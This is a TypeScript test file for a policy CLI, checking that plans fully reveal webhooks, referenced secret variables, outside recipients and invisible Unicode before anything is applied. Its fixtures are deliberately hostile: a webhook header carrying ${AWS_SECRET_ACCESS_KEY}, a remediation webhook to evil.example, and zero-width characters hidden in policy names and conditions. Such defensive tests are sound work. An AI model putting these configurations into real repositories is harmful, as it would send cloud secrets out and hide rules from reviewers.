// A repo of somebody else is planned, shown and approved: what leaves for where has to be seen before.
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { TestService } from '../server/test-service.ts';
import { startTestService } from '../server/test-service.ts';
import { createRepo } from '../cli/plan/repo.ts';

let service: TestService;
beforeEach(async () => void (service = await startTestService()));
afterEach(() => service.close());

const fetch = (url: string, init: RequestInit): Promise<Response> =>
  service.app.fetch(new Request(url, init), {}) as Promise<Response>;

const hostile = `kind: Webhook
key: metrics
url: http://127.0.0.1:9/collect
events: [scan.failed, scan.completed]
secret: \${DEPLOY_SECRET}
headers: {X-Trace: "\${AWS_SECRET_ACCESS_KEY}"}
---
kind: Schedule
name: Weekly
schedule: {cron: "0 9 * * 1"}
report_template:
  name: Weekly
  type: compliance
  framework: soc2
  scope: {date_range_type: last_week}
delivery:
  email: {recipients: [ciso@example.com, mallory@example.net]}
  webhook: {url: "http://127.0.0.1:9/reports"}
`;

test('the plan of a new webhook or schedule tells the variables that are sent, and every place, wherever it is shown', async () => {
  const repo = createRepo('project: acme\npaths: [policies]\n');
  repo.write('policies/all.yaml', hostile);
  const run = (...argv: string[]) =>
    repo.govctl(argv, {
      fetch,
      env: {
        GOVCTL_TOKEN: service.key,
        DEPLOY_SECRET: 'a-long-deploy-secret',
        AWS_SECRET_ACCESS_KEY: 'the-key-of-the-cloud',
      },
    });
  const planned = await run('plan', '--out', 'plan.json');
  const markdown = await run('plan', '-o', 'markdown');
  const shown = await run('show', 'plan.json');
  const refused = await run('apply', 'plan.json', '--no-input');
  for (const { stdout } of [planned, shown, markdown]) {
    const text = stdout.replaceAll('&#64;', '@').replaceAll('\\', '').replace(/\s+/g, ' ');
    for (const said of [
      'http://127.0.0.1:9/collect',
      'secret ${DEPLOY_SECRET}',
      'x-trace: ${AWS_SECRET_ACCESS_KEY}',
      'to email ciso@example.com, mallory@example.net',
      'to webhook http://127.0.0.1:9/reports',
    ]) {
      expect(text).toContain(said);
    }
    expect(text).not.toMatch(/a-long-deploy-secret|the-key-of-the-cloud/);
  }
  expect(refused.exitCode).not.toBe(0);
});

test('the plan of a new policy tells all that it says, and would do, wherever it is shown', async () => {
  const repo = createRepo('project: acme\npaths: [policies]\n');
  repo.write(
    'policies/p.yaml',
    `key: quiet
name: pr\u200bod buckets ⚠️
description: Looks harmless
resource_type: AWS::S3::Bucket
severity: LOW
auto_remediation: true
remediation_action: webhook:https://evil.example/run
tags: [team:a, "sp\u206aread"]
rules:
  - {condition: 'resource.tags["env"] == "pr\ufe0fod"', effect: DENY, message: Call 0900 123}
  - {condition: 'true', effect: ALLOW}
`,
  );
  const run = (...argv: string[]) =>
    repo.govctl(argv, { fetch, env: { GOVCTL_TOKEN: service.key } });
  const planned = await run('plan', '--out', 'plan.json');
  const shown = await run('show', 'plan.json');
  const markdown = await run('plan', '-o', 'markdown');
  const refused = await run('apply', 'plan.json', '--no-input');
  for (const { stdout } of [planned, shown, markdown]) {
    for (const said of [
      'pr\\u{200b}od buckets ⚠️',
      'description: Looks harmless',
      'auto_remediation: true',
      'remediation_action: webhook:https://evil.example/run',
      'tags: sp\\u{206a}read, team:a',
      'DENY when resource.tags["env"] == "pr\\u{fe0f}od"',
      'message: Call 0900 123',
      'ALLOW when true',
    ]) {
      expect(stdout).toContain(said);
    }
  }
  expect(refused.exitCode).not.toBe(0);
  const brief = await run('plan', '--brief');
  expect(brief.stdout).toContain('LOW · AWS::S3::Bucket · 2 rules');
  expect(brief.stdout).not.toContain('DENY when');
});

test('what changes by a character that nobody sees is shown by its number', async () => {
  const repo = createRepo('project: acme\npaths: [policies]\n');
  const run = (...argv: string[]) =>
    repo.govctl(argv, { fetch, env: { GOVCTL_TOKEN: service.key } });
  const policy = (value: string): void =>
    repo.write(
      'policies/p.yaml',
      `kind: Policy
key: p
name: Production is tagged
resource_type: AWS::S3::Bucket
enabled: true
rules: [{condition: 'resource.tags["env"] == "${value}"', effect: DENY}]
`,
    );
  policy('prod');
  const applied = await run('apply', '-y');
  expect(applied, applied.stderr).toMatchObject({ exitCode: 0 });
  for (const [value, said] of [
    ['pr\u200bod', 'pr\\u{200b}od'],
    ['pr\u200dod', 'pr\\u{200d}od'],
    ['pr\u200fod', 'pr\\u{200f}od'],
    ['prod\u{e0041}', 'prod\\u{e0041}'],
  ] as const) {
    policy(value);
    expect((await run('plan')).stdout).toContain(said);
  }
});
